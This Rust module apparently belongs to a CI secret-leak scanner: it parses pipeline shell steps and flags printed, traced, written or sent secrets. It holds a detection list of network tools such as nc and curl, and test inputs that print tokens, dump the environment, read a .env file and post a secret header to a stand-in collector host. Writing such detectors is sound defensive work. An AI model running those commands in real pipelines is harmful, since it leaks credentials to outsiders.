//! What a shell script (`run:`, `script:`, `RUN`, `sh '…'`) does that matters for egress:
//! prints, traces, sends, writes to `GITHUB_ENV` or files, docker build arguments and pushes.
//! A small tokeniser (quotes, `$VAR`/`${VAR…}`, `$(…)`, pipes, `;`/`&&`/`||`, redirections,
//! here-documents, line continuations), not a shell: enough to see the commands, not to run them.

/// One variable use in a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Var {
    pub name: String,
    /// `${X:0:4}`, `${X//a/b}`, `$(echo $X | base64)`: masking does not apply.
    pub transformed: bool,
}

/// What happens, at which line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Event {
    /// Variables printed to the log (`echo`, `printf`, `cat <<EOF`, `printenv X`).
    Print { line: u64, cmd: String, vars: Vec<Var> },
    /// A file printed to the log (`cat .env`).
    PrintFile { line: u64, cmd: String, path: String },
    /// Every variable printed (`printenv`, `env`, `export -p`).
    PrintAll { line: u64, cmd: String },
    /// A command using variables while `set -x` is on: the shell echoes it, expanded.
    Trace { line: u64, cmd: String, vars: Vec<Var> },
    /// Sent over the network to `host` (unknown when `None`).
    Send { line: u64, cmd: String, vars: Vec<Var>, files: Vec<String>, host: Option<String> },
    /// `echo "NAME=$X" >> $GITHUB_ENV` (or `GITHUB_OUTPUT`, `##vso[task.setvariable]`).
    EnvWrite { line: u64, target: String, name: String, vars: Vec<Var> },
    /// `echo $X > path`.
    FileWrite { line: u64, path: String, vars: Vec<Var> },
    /// `docker build --build-arg NAME=$X` (or `--build-arg NAME`, from the environment).
    BuildArg { line: u64, name: String, vars: Vec<Var> },
    /// `docker push`, `docker buildx build --push`.
    Push { line: u64 },
    /// `gh pr checkout`, `git fetch origin pull/N/head`: the pull request's code.
    PrCheckout { line: u64 },
}

#[derive(Debug, Default, Clone)]
struct Word {
    text: String,
    vars: Vec<Var>,
    /// Had quotes: a quoted here-document delimiter turns expansion off.
    quoted_delim: bool,
}

#[derive(Debug, Default)]
struct Cmd {
    line: u64,
    words: Vec<Word>,
    /// `(operator, target)`: `>`, `>>`, `<`, `<<` (here-document body as the target).
    redirects: Vec<(String, Word)>,
}

const TRANSFORMERS: &[&str] = &[
    "base64", "xxd", "od", "hexdump", "rev", "openssl", "gzip", "sed", "tr", "cut", "awk", "jq", "python",
    "python3", "perl", "iconv", "fold", "basenc", "base32",
];
const PRINTERS: &[&str] = &["echo", "printf", "print", "cat", "write-host", "write-output"];
const SENDERS: &[&str] =
    &["curl", "wget", "nc", "ncat", "netcat", "http", "https", "invoke-webrequest", "invoke-restmethod"];

/// The events of a script whose first line is `first_line`.
pub(crate) fn events(script: &str, first_line: u64) -> Vec<Event> {
    let mut out = Vec::new();
    let mut xtrace = false;
    for pipeline in parse(script, first_line) {
        pipeline_events(&pipeline, &mut xtrace, &mut out);
    }
    out
}

fn pipeline_events(pipeline: &[Cmd], xtrace: &mut bool, out: &mut Vec<Event>) {
    for (i, cmd) in pipeline.iter().enumerate() {
        let words: Vec<&Word> = cmd
            .words
            .iter()
            .skip_while(|w| {
                is_assignment(&w.text)
                    || ["sudo", "exec", "time", "command", "then", "do", "else"].contains(&w.text.as_str())
            })
            .collect();
        let Some(first) = words.first() else { continue };
        let name = first.text.rsplit('/').next().unwrap_or(&first.text).to_ascii_lowercase();
        let args = &words[1..];
        let line = cmd.line;
        let all_vars: Vec<Var> = cmd
            .words
            .iter()
            .chain(cmd.redirects.iter().filter(|(op, _)| op == "<<").map(|(_, w)| w))
            .flat_map(|w| w.vars.iter().cloned())
            .collect();
        let rest = &pipeline[i + 1..];
        let transformed_after =
            !rest.is_empty() && rest.iter().all(|c| c.words.first().is_some_and(|w| is_transformer(&w.text)));
        let stdout_to_log = rest.is_empty() || transformed_after;
        let out_file = pipeline
            .last()
            .and_then(|c| c.redirects.iter().find(|(op, _)| op == ">" || op == ">>"))
            .filter(|_| rest.is_empty() || transformed_after)
            .map(|(_, w)| w);
        let desc = describe(&name, &all_vars, transformed_after);
        if name == "set" {
            for a in args {
                if a.text.starts_with('-') && a.text.contains('x') || a.text == "xtrace" {
                    *xtrace = true;
                } else if a.text.starts_with('+') && a.text.contains('x') {
                    *xtrace = false;
                }
            }
            if args.is_empty() && out_file.is_none() && stdout_to_log {
                out.push(Event::PrintAll { line, cmd: "set".into() });
            }
            continue;
        }
        if let Some(target) = out_file {
            let t = target.text.as_str();
            let env_target = ["GITHUB_ENV", "GITHUB_OUTPUT"].into_iter().find(|n| t.contains(n));
            if let Some(env_target) = env_target {
                let assigned =
                    args.iter().find_map(|a| a.text.split_once('=').map(|(n, _)| n.trim().to_string()));
                out.push(Event::EnvWrite {
                    line,
                    target: env_target.to_string(),
                    name: assigned.unwrap_or_default(),
                    vars: all_vars.clone(),
                });
            } else if PRINTERS.contains(&name.as_str()) && !all_vars.is_empty() {
                out.push(Event::FileWrite { line, path: target.text.clone(), vars: all_vars.clone() });
            }
        } else if PRINTERS.contains(&name.as_str()) && stdout_to_log {
            let vars: Vec<Var> = all_vars
                .iter()
                .map(|v| Var { name: v.name.clone(), transformed: v.transformed || transformed_after })
                .collect();
            if !vars.is_empty() {
                out.push(Event::Print { line, cmd: desc.clone(), vars });
            } else if name == "cat" {
                for a in args.iter().filter(|a| !a.text.starts_with('-') && !a.text.is_empty()) {
                    out.push(Event::PrintFile { line, cmd: format!("cat {}", a.text), path: a.text.clone() });
                }
            }
            if let Some(setvar) = args.iter().find_map(|a| setvariable(&a.text)) {
                out.push(Event::EnvWrite {
                    line,
                    target: "task.setvariable".into(),
                    name: setvar,
                    vars: all_vars.clone(),
                });
            }
            continue;
        }
        match name.as_str() {
            "printenv" | "env" | "export" | "declare" if stdout_to_log && out_file.is_none() => {
                let named: Vec<&&Word> = args.iter().filter(|a| !a.text.starts_with('-')).collect();
                let dumps = match name.as_str() {
                    "printenv" | "env" => named.is_empty(),
                    _ => args.iter().any(|a| a.text == "-p") || args.is_empty(),
                };
                if dumps {
                    out.push(Event::PrintAll { line, cmd: name.clone() });
                } else if name == "printenv" {
                    let vars = named
                        .iter()
                        .map(|a| Var { name: a.text.clone(), transformed: transformed_after })
                        .collect();
                    out.push(Event::Print { line, cmd: format!("printenv {}", named[0].text), vars });
                }
            }
            n if SENDERS.contains(&n) => {
                let files = args
                    .iter()
                    .filter_map(|a| {
                        a.text.strip_prefix('@').or_else(|| a.text.split_once("=@").map(|(_, f)| f))
                    })
                    .map(str::to_string)
                    .chain(upload_file(args))
                    .collect::<Vec<_>>();
                let target = send_target(n, args);
                // A variable that is the URL's host is where the request goes (a webhook
                // URL secret): posting to it is its use.
                let vars: Vec<Var> =
                    all_vars.iter().filter(|v| !target.destination.contains(&v.name)).cloned().collect();
                if !vars.is_empty() || !files.is_empty() {
                    let desc = describe(&name, &vars, transformed_after);
                    out.push(Event::Send { line, cmd: desc, vars, files, host: target.host });
                }
            }
            "docker" | "podman" | "buildah" => docker(args, line, out),
            "gh" if args.first().is_some_and(|a| a.text == "pr")
                && args.get(1).is_some_and(|a| a.text == "checkout") =>
            {
                out.push(Event::PrCheckout { line })
            }
            "git"
                if args.iter().any(|a| {
                    a.text.contains("pull/") || a.text.contains("head_ref") || a.text.contains("pull_request")
                }) =>
            {
                out.push(Event::PrCheckout { line })
            }
            _ if *xtrace && !all_vars.is_empty() => {
                out.push(Event::Trace { line, cmd: desc.clone(), vars: all_vars.clone() })
            }
            _ => {}
        }
    }
}

fn docker(args: &[&Word], line: u64, out: &mut Vec<Event>) {
    let sub: Vec<&str> =
        args.iter().map(|a| a.text.as_str()).filter(|a| !a.starts_with('-')).take(2).collect();
    if sub.first() == Some(&"push") || sub == ["compose", "push"] || args.iter().any(|a| a.text == "--push") {
        out.push(Event::Push { line });
    }
    let mut it = args.iter().peekable();
    while let Some(a) = it.next() {
        let value = if a.text == "--build-arg" {
            it.next().copied()
        } else if a.text.starts_with("--build-arg=") {
            Some(*a)
        } else {
            None
        };
        let Some(v) = value else { continue };
        let text = v.text.strip_prefix("--build-arg=").unwrap_or(&v.text);
        let (name, vars) = match text.split_once('=') {
            Some((n, _)) => (n.to_string(), v.vars.clone()),
            // `--build-arg NAME` takes NAME from the environment.
            None => (text.to_string(), vec![Var { name: text.to_string(), transformed: false }]),
        };
        if !vars.is_empty() {
            out.push(Event::BuildArg { line, name, vars });
        }
    }
}

fn upload_file(args: &[&Word]) -> Vec<String> {
    args.windows(2)
        .filter(|w| {
            ["-T", "--upload-file", "--data-binary", "--post-file", "--body-file"]
                .contains(&w[0].text.as_str())
        })
        .map(|w| w[1].text.trim_start_matches('@').to_string())
        .collect()
}

/// Where a network command sends its request.
#[derive(Debug, Default)]
struct Target {
    /// The host of the first URL with a literal host.
    host: Option<String>,
    /// Variables a URL starts with: they are the destination (`curl -d @body $WEBHOOK_URL`).
    destination: Vec<String>,
}

/// Options of `curl`, `wget` and the PowerShell cmdlets that take a value which is not the
/// URL: a URL inside a JSON body or a header is not where the request goes.
const VALUE_OPTIONS: &[&str] = &[
    "-d",
    "--data",
    "--data-raw",
    "--data-binary",
    "--data-urlencode",
    "--json",
    "-H",
    "--header",
    "-F",
    "--form",
    "--form-string",
    "-u",
    "--user",
    "-o",
    "--output",
    "-X",
    "--request",
    "-A",
    "--user-agent",
    "-e",
    "--referer",
    "-b",
    "--cookie",
    "-c",
    "--cookie-jar",
    "-T",
    "--upload-file",
    "-m",
    "--max-time",
    "--retry",
    "-w",
    "--write-out",
    "--connect-timeout",
    "--cacert",
    "--cert",
    "--key",
    "-x",
    "--proxy",
    "-O",
    "--output-document",
    "--post-data",
    "--body-data",
    "--post-file",
    "--body-file",
    "--password",
    "--http-user",
    "--http-password",
    "-Body",
    "-Headers",
    "-Method",
    "-ContentType",
    "-OutFile",
    "-InFile",
    "-Credential",
];

/// The URL words of a network command (`--url X` and positionals, not option values); for
/// httpie (`http [METHOD] URL items…`) only the first.
fn send_target(cmd: &str, args: &[&Word]) -> Target {
    let mut urls: Vec<&Word> = Vec::new();
    let mut it = args.iter();
    while let Some(a) = it.next() {
        let t = a.text.as_str();
        if t == "--url" || t.eq_ignore_ascii_case("-uri") {
            urls.extend(it.next().copied());
        } else if VALUE_OPTIONS.iter().any(|o| o.eq_ignore_ascii_case(t)) {
            it.next();
        } else if !t.starts_with('-') && (t.contains("://") || t.starts_with('$') || t.contains('.')) {
            urls.push(a);
        }
    }
    if cmd == "http" || cmd == "https" {
        urls.truncate(1);
    }
    let mut target = Target::default();
    for w in urls {
        if w.text.starts_with('$') {
            target.destination.extend(w.vars.first().map(|v| v.name.clone()));
        } else if target.host.is_none() {
            target.host = host_of(&w.text);
        }
    }
    target
}

/// The host of a URL word (`https://user@host:443/x` → `host`).
fn host_of(word: &str) -> Option<String> {
    let (_, rest) = word.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?.split(':').next()?;
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

/// `##vso[task.setvariable variable=X]…` without `issecret=true`: Azure registers X unmasked.
fn setvariable(text: &str) -> Option<String> {
    let at = text.find("##vso[task.setvariable")?;
    let inner = &text[at..text[at..].find(']').map_or(text.len(), |e| at + e)];
    if inner.contains("issecret=true") {
        return None;
    }
    let v = inner.split("variable=").nth(1)?;
    Some(v.split([';', ']', ' ']).next()?.to_string())
}

fn describe(name: &str, vars: &[Var], piped: bool) -> String {
    let mut s = name.to_string();
    for v in vars {
        s.push_str(&format!(" ${}", v.name));
    }
    if piped {
        s.push_str(" | …");
    }
    s
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=')
        .is_some_and(|(n, _)| !n.is_empty() && n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
}

fn is_transformer(word: &str) -> bool {
    TRANSFORMERS.contains(&word.rsplit('/').next().unwrap_or(word))
}

/// Split a script into pipelines of commands.
fn parse(script: &str, first_line: u64) -> Vec<Vec<Cmd>> {
    let mut p = Parser { chars: script.chars().collect(), at: 0, line: first_line };
    p.script()
}

struct Parser {
    chars: Vec<char>,
    at: usize,
    line: u64,
}

impl Parser {
    fn peek(&self, off: usize) -> Option<char> {
        self.chars.get(self.at + off).copied()
    }

    fn script(&mut self) -> Vec<Vec<Cmd>> {
        let mut pipelines = Vec::new();
        let mut pipeline: Vec<Cmd> = Vec::new();
        let mut cmd = Cmd { line: self.line, ..Cmd::default() };
        let mut heredocs: Vec<(usize, String, bool)> = Vec::new();
        let end_cmd = |cmd: &mut Cmd, pipeline: &mut Vec<Cmd>, line: u64| {
            let done = std::mem::replace(cmd, Cmd { line, ..Cmd::default() });
            if !done.words.is_empty() || !done.redirects.is_empty() {
                pipeline.push(done);
            }
        };
        while let Some(c) = self.peek(0) {
            match c {
                '\n' => {
                    self.at += 1;
                    self.line += 1;
                    // Here-document bodies follow the line that opened them.
                    for (idx, delim, quoted) in std::mem::take(&mut heredocs) {
                        let body = self.heredoc(&delim, quoted);
                        let target = if idx < pipeline.len() { &mut pipeline[idx] } else { &mut cmd };
                        target.redirects.push(("<<".into(), body));
                    }
                    end_cmd(&mut cmd, &mut pipeline, self.line);
                    if !pipeline.is_empty() {
                        pipelines.push(std::mem::take(&mut pipeline));
                    }
                }
                ' ' | '\t' | '\r' => self.at += 1,
                '\\' if self.peek(1) == Some('\n') => {
                    self.at += 2;
                    self.line += 1;
                }
                '#' => {
                    while self.peek(0).is_some_and(|c| c != '\n') {
                        self.at += 1;
                    }
                }
                ';' | '(' | ')' | '{' | '}' | '&' if c != '&' || self.peek(1) != Some('>') => {
                    self.at += if c == '&' && self.peek(1) == Some('&') { 2 } else { 1 };
                    end_cmd(&mut cmd, &mut pipeline, self.line);
                    if !pipeline.is_empty() {
                        pipelines.push(std::mem::take(&mut pipeline));
                    }
                }
                '|' => {
                    let or = self.peek(1) == Some('|');
                    self.at += if or { 2 } else { 1 };
                    end_cmd(&mut cmd, &mut pipeline, self.line);
                    if or && !pipeline.is_empty() {
                        pipelines.push(std::mem::take(&mut pipeline));
                    }
                }
                '>' | '<' | '&' => {
                    let mut op = String::from(c);
                    self.at += 1;
                    while let Some(n @ ('>' | '<' | '&' | '-')) = self.peek(0) {
                        op.push(n);
                        self.at += 1;
                    }
                    while self.peek(0).is_some_and(|c| c == ' ' || c == '\t') {
                        self.at += 1;
                    }
                    let target = self.word();
                    if op.starts_with("<<") && op != "<<<" {
                        let idx = pipeline.len();
                        heredocs.push((idx, target.text.clone(), target.quoted_delim));
                    } else if op.starts_with('>') && !op.ends_with('&') {
                        cmd.redirects.push((op.trim_end_matches('-').to_string(), target));
                    } else if op == "<<<" {
                        cmd.words.push(target);
                    }
                }
                _ => {
                    if cmd.words.is_empty() {
                        cmd.line = self.line;
                    }
                    let w = self.word();
                    // A file-descriptor prefix of a redirection (`2>`).
                    if w.text.chars().all(|c| c.is_ascii_digit()) && matches!(self.peek(0), Some('>' | '<')) {
                        continue;
                    }
                    cmd.words.push(w);
                }
            }
        }
        end_cmd(&mut cmd, &mut pipeline, self.line);
        if !pipeline.is_empty() {
            pipelines.push(pipeline);
        }
        pipelines
    }

    /// One word: quotes removed, variables collected.
    fn word(&mut self) -> Word {
        let mut w = Word::default();
        let mut quote: Option<char> = None;
        while let Some(c) = self.peek(0) {
            match (quote, c) {
                (None, ' ' | '\t' | '\n' | '\r' | ';' | '|' | '&' | '<' | '>' | '(' | ')') => break,
                (None, '\'' | '"') => {
                    quote = Some(c);
                    w.quoted_delim = true;
                    self.at += 1;
                }
                (Some(q), _) if c == q => {
                    quote = None;
                    self.at += 1;
                }
                // `${{ … }}` is expanded by GitHub before the shell runs, quotes or not.
                (Some('\''), '$') if self.peek(1) == Some('{') && self.peek(2) == Some('{') => {
                    self.var(&mut w)
                }
                (Some('\''), _) => {
                    if c == '\n' {
                        self.line += 1;
                    }
                    w.text.push(c);
                    self.at += 1;
                }
                (_, '\\') => {
                    if let Some(n) = self.peek(1) {
                        if n == '\n' {
                            self.line += 1;
                        } else {
                            w.text.push(n);
                        }
                    }
                    self.at += 2;
                }
                (_, '$') => self.var(&mut w),
                (_, '`') => {
                    self.at += 1;
                    let inner = self.until(|c| c == '`');
                    self.at += 1;
                    self.substitution(&inner, &mut w);
                }
                _ => {
                    if c == '\n' {
                        self.line += 1;
                    }
                    w.text.push(c);
                    self.at += 1;
                }
            }
        }
        w
    }

    fn until(&mut self, stop: impl Fn(char) -> bool) -> String {
        let mut s = String::new();
        while let Some(c) = self.peek(0).filter(|c| !stop(*c)) {
            s.push(c);
            self.at += 1;
        }
        s
    }

    /// `$NAME`, `${NAME…}`, `$(…)`, and GitHub's `${{ expression }}` as a variable named
    /// `{{ expression }}`.
    fn var(&mut self, w: &mut Word) {
        self.at += 1;
        match self.peek(0) {
            Some('{') if self.peek(1) == Some('{') => {
                self.at += 2;
                let mut inner = String::new();
                while let Some(c) = self.peek(0) {
                    if c == '}' && self.peek(1) == Some('}') {
                        self.at += 2;
                        break;
                    }
                    inner.push(c);
                    self.at += 1;
                }
                let name = format!("{{{{ {} }}}}", inner.trim());
                w.text.push_str(&format!("${name}"));
                // Masking covers a secret's whole value: a field of a JSON secret
                // (`fromJSON(secrets.X).key`) is printed in clear.
                let transformed = inner.to_ascii_lowercase().contains("fromjson(");
                w.vars.push(Var { name, transformed });
            }
            Some('{') => {
                self.at += 1;
                let inner = self.until(|c| c == '}');
                self.at += 1;
                let len_only = inner.starts_with('#');
                let name: String = inner
                    .trim_start_matches(['#', '!'])
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                    .collect();
                let transformed = inner.len() > name.len();
                w.text.push_str(&format!("${name}"));
                if !name.is_empty() && !len_only {
                    w.vars.push(Var { name, transformed });
                }
            }
            Some('(') => {
                self.at += 1;
                let mut depth = 1;
                let mut inner = String::new();
                while let Some(c) = self.peek(0) {
                    self.at += 1;
                    match c {
                        '(' => depth += 1,
                        ')' => {
                            depth -= 1;
                            if depth == 0 {
                                break;
                            }
                        }
                        '\n' => self.line += 1,
                        _ => {}
                    }
                    inner.push(c);
                }
                self.substitution(&inner, w);
            }
            _ => {
                let name = self.until(|c| !(c.is_ascii_alphanumeric() || c == '_'));
                if name.is_empty() {
                    w.text.push('$');
                } else {
                    w.text.push_str(&format!("${name}"));
                    if !name.chars().next().is_some_and(|c| c.is_ascii_digit()) {
                        w.vars.push(Var { name, transformed: false });
                    }
                }
            }
        }
    }

    /// Variables used inside a command substitution belong to the outer word; a transformer
    /// anywhere inside makes them transformed.
    fn substitution(&mut self, inner: &str, w: &mut Word) {
        let pipelines = parse(inner, self.line);
        let transformed =
            pipelines.iter().flatten().any(|c| c.words.first().is_some_and(|x| is_transformer(&x.text)));
        for c in pipelines.iter().flatten() {
            for v in c.words.iter().chain(c.redirects.iter().map(|(_, t)| t)).flat_map(|x| &x.vars) {
                w.vars.push(Var { name: v.name.clone(), transformed: v.transformed || transformed });
            }
        }
        w.text.push_str("$(…)");
    }

    /// A here-document body up to its delimiter line, as one word.
    fn heredoc(&mut self, delim: &str, quoted: bool) -> Word {
        let mut body = Word::default();
        loop {
            let line_text = self.until(|c| c == '\n');
            let at_end = self.peek(0).is_none();
            self.at += 1;
            self.line += 1;
            if line_text.trim() == delim || at_end {
                break;
            }
            if !quoted {
                let mut sub = Parser { chars: line_text.chars().collect(), at: 0, line: self.line - 1 };
                while sub.peek(0).is_some() {
                    if sub.peek(0) == Some('$') {
                        sub.var(&mut body);
                    } else {
                        sub.at += 1;
                    }
                }
            }
        }
        body
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn v(name: &str, transformed: bool) -> Var {
        Var { name: name.into(), transformed }
    }

    #[test]
    fn prints_and_transformed_prints() {
        let ev = events("echo \"token: $TOKEN\"\necho $TOKEN | base64\necho ${TOKEN:0:4}\necho hi\n", 10);
        assert_eq!(
            ev,
            vec![
                Event::Print { line: 10, cmd: "echo $TOKEN".into(), vars: vec![v("TOKEN", false)] },
                Event::Print { line: 11, cmd: "echo $TOKEN | …".into(), vars: vec![v("TOKEN", true)] },
                Event::Print { line: 12, cmd: "echo $TOKEN".into(), vars: vec![v("TOKEN", true)] },
            ]
        );
    }

    #[test]
    fn piping_into_a_login_is_not_a_print() {
        assert!(
            events("echo $PASS | docker login -u bot --password-stdin registry.example.com\n", 1).is_empty()
        );
    }

    #[test]
    fn env_file_writes_and_file_writes() {
        let ev = events("echo \"API=$X\" >> \"$GITHUB_ENV\"\necho $X > creds.txt\n", 1);
        assert_eq!(
            ev,
            vec![
                Event::EnvWrite {
                    line: 1,
                    target: "GITHUB_ENV".into(),
                    name: "API".into(),
                    vars: vec![v("X", false)]
                },
                Event::FileWrite { line: 2, path: "creds.txt".into(), vars: vec![v("X", false)] },
            ]
        );
    }

    #[test]
    fn xtrace_printenv_and_network() {
        let ev = events("set -eux\nnpm publish --token $NPM\nprintenv\ncurl -H \"Authorization: $T\" https://collector.example.net/x\n", 1);
        assert_eq!(ev[0], Event::Trace { line: 2, cmd: "npm $NPM".into(), vars: vec![v("NPM", false)] });
        assert_eq!(ev[1], Event::PrintAll { line: 3, cmd: "printenv".into() });
        assert!(matches!(&ev[2], Event::Send { line: 4, host: Some(h), .. } if h == "collector.example.net"));
    }

    #[test]
    fn docker_build_args_and_push_across_continuations() {
        let ev = events("docker build \\\n  --build-arg NPM_TOKEN=$NPM_TOKEN \\\n  --build-arg PLAIN -t x .\ndocker push x\n", 5);
        assert_eq!(
            ev,
            vec![
                Event::BuildArg { line: 5, name: "NPM_TOKEN".into(), vars: vec![v("NPM_TOKEN", false)] },
                Event::BuildArg { line: 5, name: "PLAIN".into(), vars: vec![v("PLAIN", false)] },
                Event::Push { line: 8 },
            ]
        );
    }

    #[test]
    fn heredocs_cat_files_and_pr_checkout() {
        let ev = events("cat <<EOF\nkey=$K\nEOF\ncat config/.env\ngh pr checkout 12\n", 1);
        assert_eq!(ev[0], Event::Print { line: 1, cmd: "cat $K".into(), vars: vec![v("K", false)] });
        assert_eq!(
            ev[1],
            Event::PrintFile { line: 4, cmd: "cat config/.env".into(), path: "config/.env".into() }
        );
        assert_eq!(ev[2], Event::PrCheckout { line: 5 });
    }

    #[test]
    fn single_quotes_do_not_expand_but_github_expressions_do() {
        assert!(events("echo '$NOT_EXPANDED'\n", 1).is_empty());
        let ev = events("echo '${{ secrets.X }}'\n", 1);
        assert_eq!(
            ev,
            vec![Event::Print {
                line: 1,
                cmd: "echo ${{ secrets.X }}".into(),
                vars: vec![v("{{ secrets.X }}", false)]
            }]
        );
    }

    #[test]
    fn azure_setvariable_without_issecret() {
        let ev = events("echo \"##vso[task.setvariable variable=TOKEN]$(SECRET)\"\n", 1);
        assert!(ev.iter().any(|e| matches!(e, Event::EnvWrite { name, target, .. } if name == "TOKEN" && target == "task.setvariable")));
    }
}
